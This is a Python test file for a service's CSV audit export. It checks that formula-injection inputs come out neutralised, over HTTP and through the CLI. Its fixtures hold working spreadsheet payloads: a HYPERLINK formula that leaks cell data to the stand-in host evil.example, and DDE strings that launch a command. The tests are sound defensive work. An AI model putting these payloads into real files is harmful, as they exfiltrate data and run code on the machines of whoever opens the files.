"""CSV formula injection (OWASP): a member's escalation reason and correlation headers
come out of the CSV audit export, over HTTP and from ``opsledger audit export``, as
text no spreadsheet runs (one leading ``'``)."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from infra.settings import Settings
from services.api.app import create_app

ADMIN = "csv-admin-token-000000"
MEMBER = "csv-member-token-00000"
TOKENS = {
    ADMIN: {"principal": "user:admin", "roles": ["admin"], "teams": ["*"]},
    MEMBER: {"principal": "user:max", "roles": ["member"], "teams": ["*"]},
}
REASON = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
CORRELATION = "+cmd|' /C calc'!A0"
CAUSATION = "-2+3+cmd|' /C calc'!A0"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def admin(token: str = ADMIN) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


@pytest.fixture
def data_dir(tmp_path: Path) -> Path:
    """A data folder whose trail holds an escalation carrying formulas."""
    data = tmp_path / "data"
    settings = Settings(data_dir=data, tokens=json.dumps(TOKENS))
    with TestClient(create_app(settings), raise_server_exceptions=False) as client:
        team = client.post("/v1/teams", json={"name": "SRE"}, headers=admin()).json()["id"]
        incident = client.post("/v1/incidents", headers=admin(), json={
            "team_id": team, "severity": "SEV3", "service": "api", "summary": "slow",
        }).json()["id"]
        r = client.post(f"/v1/incidents/{incident}/escalate", headers={
            **admin(MEMBER), "X-Correlation-Id": CORRELATION, "X-Causation-Id": CAUSATION,
        }, json={"severity": "SEV2", "reason": REASON})
        assert r.status_code == 200, r.text
        head = r.json()["position"]
        assert client.get("/v1/audit", params={"min_position": head},
                          headers=admin()).status_code == 200
    return data


def assert_neutralised(text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(text)))
    escalated = [r for r in rows if r["type"].endswith("IncidentEscalated.v1")]
    assert len(escalated) == 1
    assert escalated[0]["reason"] == "'" + REASON
    assert escalated[0]["correlation_id"] == "'" + CORRELATION
    assert escalated[0]["causation_id"] == "'" + CAUSATION
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]


def test_the_http_csv_export_neutralises_formulas(data_dir: Path) -> None:
    settings = Settings(data_dir=data_dir, tokens=json.dumps(TOKENS))
    with TestClient(create_app(settings), raise_server_exceptions=False) as client:
        r = client.get("/v1/audit/export", params={"format": "csv"}, headers=admin())
        jsonl = client.get("/v1/audit/export", params={"format": "jsonl"}, headers=admin())

    assert r.status_code == 200
    assert_neutralised(r.text)
    assert REASON in [json.loads(line)["reason"] for line in jsonl.text.splitlines()]


def test_the_cli_csv_export_neutralises_formulas(data_dir: Path) -> None:
    proc = subprocess.run(
        [sys.executable, "-m", "services.cli", "audit", "export", "--format", "csv",
         "--data-dir", str(data_dir)],
        capture_output=True, text=True, timeout=120, check=False,
        env={"OPSLEDGER_TOKENS": json.dumps(TOKENS), "PATH": "/usr/bin:/bin"},
    )

    assert proc.returncode == 0, proc.stderr
    assert_neutralised(proc.stdout)


def test_the_cli_export_filters_by_team(data_dir: Path) -> None:
    def export(*args: str) -> list[dict[str, object]]:
        proc = subprocess.run(
            [sys.executable, "-m", "services.cli", "audit", "export", *args,
             "--data-dir", str(data_dir)],
            capture_output=True, text=True, timeout=120, check=False,
            env={"OPSLEDGER_TOKENS": json.dumps(TOKENS), "PATH": "/usr/bin:/bin"},
        )
        assert proc.returncode == 0, proc.stderr
        return [json.loads(line) for line in proc.stdout.splitlines()]

    everything = export()
    team = everything[0]["team_id"]
    assert export("--team-id", str(team)) == [r for r in everything if r["team_id"] == team]
    assert export("--team-id", "no-such-team") == []
